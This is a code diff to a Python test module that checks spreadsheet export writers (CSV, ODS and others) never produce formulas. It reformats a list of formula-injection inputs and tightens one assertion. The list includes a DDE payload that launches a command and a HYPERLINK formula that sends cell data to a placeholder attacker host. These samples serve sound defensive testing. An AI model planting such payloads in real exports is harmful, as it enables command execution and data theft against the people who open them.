@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 import zipfile
 from types import SimpleNamespace
 
@@ -20,9 +21,10 @@ from tests.factories import StatementFactory, accepted
 
 # DDE, links, functions; the signs also in full width, and behind what a spreadsheet takes off first.
 FORMULAS = [
-    "=1+1", "+1", "-1+1", "@SUM(1)", "|calc", "%0A=1", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u3000＝1", "＝1+1", "＋1", "－1", "＠SUM",
-    "\ufeff=1", "\u200b=1", "\u2060@x", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1,"x")', "=WEBSERVICE(1)", "−1", "'=1", "''=1",
-    "\x1c=1", "\v=1", "\u2028=1", "\u202f+1", "﹢1", "﹣1", "﹦1", "｜calc", "％1",
+    "=1+1", "+1", "-1+1", "@SUM(1)", "|calc", "%0A=1", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u3000＝1", "＝1+1",
+    "＋1", "－1", "＠SUM", "\ufeff=1", "\u200b=1", "\u2060@x", "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?"&A1,"x")', "=WEBSERVICE(1)", "−1", "'=1", "''=1", "\x1c=1", "\v=1", "\u2028=1",
+    "\u202f+1", "﹢1", "﹣1", "﹦1", "｜calc", "％1",
 ]  # fmt: skip
 
 
@@ -48,7 +50,7 @@ def test_no_writer_makes_a_formula(form):
     elif form == "ods":
         content = zipfile.ZipFile(out).read("content.xml").decode()
         assert "table:formula" not in content
-        assert set(part.split('"')[0] for part in content.split('office:value-type="')[1:]) == {"string"}
+        assert set(re.findall(r'office:value-type="(\w+)"', content)) == {"string"}
 
 
 @pytest.mark.django_db
